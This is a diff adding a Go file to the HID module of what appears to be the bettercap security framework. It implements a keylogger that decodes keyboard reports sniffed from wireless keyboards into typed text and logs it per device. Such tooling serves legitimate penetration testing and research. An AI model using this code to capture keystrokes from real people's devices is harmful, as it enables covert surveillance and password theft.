@@ -0,0 +1,222 @@
+package hid
+
+import (
+	"fmt"
+	"os"
+	"path/filepath"
+	"sort"
+	"strings"
+	"sync"
+	"unicode"
+	"unicode/utf8"
+
+	"github.com/bettercap/bettercap/network"
+
+	"github.com/evilsocket/islazy/fs"
+)
+
+type hidKey struct {
+	hid  byte
+	mode byte
+}
+
+// how named keys are reconstructed into text
+var keyText = map[string]string{
+	"ENTER":     "\n",
+	"TAB":       "\t",
+	"SPACE":     " ",
+	"DELETE":    "\b",
+	"BACKSPACE": "\b",
+}
+
+type keyState struct {
+	pressed map[byte]bool
+	caps    bool
+	log     *os.File
+}
+
+// keyLogger turns the reports sniffed from keyboards into typed text.
+type keyLogger struct {
+	sync.Mutex
+	layout  string
+	names   map[hidKey]string
+	logPath string
+	states  map[string]*keyState
+}
+
+func newKeyLogger() *keyLogger {
+	return &keyLogger{
+		names:  make(map[hidKey]string),
+		states: make(map[string]*keyState),
+	}
+}
+
+// reverseKeyMap maps each key and modifiers combination to its name in the
+// layout, single characters are preferred over key names.
+func reverseKeyMap(kmap KeyMap) map[hidKey]string {
+	names := make([]string, 0, len(kmap))
+	for name := range kmap {
+		names = append(names, name)
+	}
+	sort.Slice(names, func(i, j int) bool {
+		li, lj := utf8.RuneCountInString(names[i]), utf8.RuneCountInString(names[j])
+		if (li == 1) != (lj == 1) {
+			return li == 1
+		}
+		return names[i] < names[j]
+	})
+
+	rev := make(map[hidKey]string)
+	for _, name := range names {
+		cmd := kmap[name]
+		key := hidKey{hid: cmd.HID, mode: cmd.Mode}
+		if _, found := rev[key]; !found && cmd.HID != 0 {
+			rev[key] = name
+		}
+	}
+	return rev
+}
+
+func (k *keyLogger) Configure(layout string, logPath string) (err error) {
+	k.Lock()
+	defer k.Unlock()
+
+	kmap := KeyMapFor(layout)
+	if kmap == nil {
+		return errNoKeyMap(layout)
+	}
+
+	if logPath != "" {
+		if logPath, err = fs.Expand(logPath); err != nil {
+			return err
+		} else if err = os.MkdirAll(logPath, os.ModePerm); err != nil {
+			return err
+		}
+	}
+
+	if logPath != k.logPath {
+		k.closeUnlocked()
+	}
+
+	k.layout = layout
+	k.names = reverseKeyMap(kmap)
+	k.logPath = logPath
+	return nil
+}
+
+func (k *keyLogger) closeUnlocked() {
+	for _, st := range k.states {
+		if st.log != nil {
+			st.log.Close()
+			st.log = nil
+		}
+	}
+}
+
+func (k *keyLogger) Close() {
+	k.Lock()
+	defer k.Unlock()
+	k.closeUnlocked()
+}
+
+func (k *keyLogger) state(dev *network.HIDDevice) *keyState {
+	st, found := k.states[dev.Address]
+	if !found {
+		st = &keyState{pressed: make(map[byte]bool)}
+		k.states[dev.Address] = st
+	}
+
+	if st.log == nil && k.logPath != "" {
+		fileName := filepath.Join(k.logPath, strings.Replace(dev.Address, ":", "", -1)+".log")
+		if f, err := os.OpenFile(fileName, os.O_CREATE|os.O_WRONLY|os.O_APPEND, 0644); err == nil {
+			st.log = f
+		}
+	}
+
+	return st
+}
+
+func modifiersString(mode byte) string {
+	mods := []string{}
+	if mode&(1|16) != 0 {
+		mods = append(mods, "CTRL")
+	}
+	if mode&4 != 0 {
+		mods = append(mods, "ALT")
+	}
+	if mode&(8|128) != 0 {
+		mods = append(mods, "GUI")
+	}
+	return strings.Join(mods, "+")
+}
+
+// keyString returns the text typed by pressing the key with the given modifiers.
+func (k *keyLogger) keyString(st *keyState, mode byte, hid byte) string {
+	// right shift is as good as left shift, right alt is AltGr
+	shift := mode & (2 | 32)
+	lookup := hidKey{hid: hid, mode: mode & 64}
+	if shift != 0 {
+		lookup.mode |= 2
+	}
+
+	name, found := k.names[lookup]
+	if found && st.caps && utf8.RuneCountInString(name) == 1 && unicode.IsLetter([]rune(name)[0]) {
+		lookup.mode ^= 2
+		if swapped, found := k.names[lookup]; found {
+			name = swapped
+		}
+	}
+
+	if !found {
+		if name, found = k.names[hidKey{hid: hid}]; !found {
+			name = fmt.Sprintf("0x%02x", hid)
+		}
+	}
+
+	if mods := modifiersString(mode); mods != "" {
+		return fmt.Sprintf("[%s+%s]", mods, name)
+	} else if name == "CAPSLOCK" {
+		st.caps = !st.caps
+		return ""
+	} else if text, found := keyText[name]; found {
+		return text
+	} else if utf8.RuneCountInString(name) == 1 {
+		return name
+	}
+	return fmt.Sprintf("[%s]", name)
+}
+
+// Decode processes a payload sniffed from the device and returns the text
+// typed with it, if any.
+func (k *keyLogger) Decode(dev *network.HIDDevice, payload []byte) string {
+	decoder, found := FrameDecoders[dev.Type]
+	if !found {
+		return ""
+	}
+
+	report, ok := decoder.DecodeFrame(dev, payload)
+	if !ok {
+		return ""
+	}
+
+	k.Lock()
+	defer k.Unlock()
+
+	st := k.state(dev)
+	pressed := make(map[byte]bool)
+	typed := ""
+	for _, key := range report.Keys {
+		pressed[key] = true
+		// only keys not already pressed in the previous report
+		if !st.pressed[key] {
+			typed += k.keyString(st, report.Mode, key)
+		}
+	}
+	st.pressed = pressed
+
+	if typed != "" && st.log != nil {
+		st.log.WriteString(strings.Replace(typed, "\b", "[BACKSPACE]", -1))
+	}
+
+	return typed
+}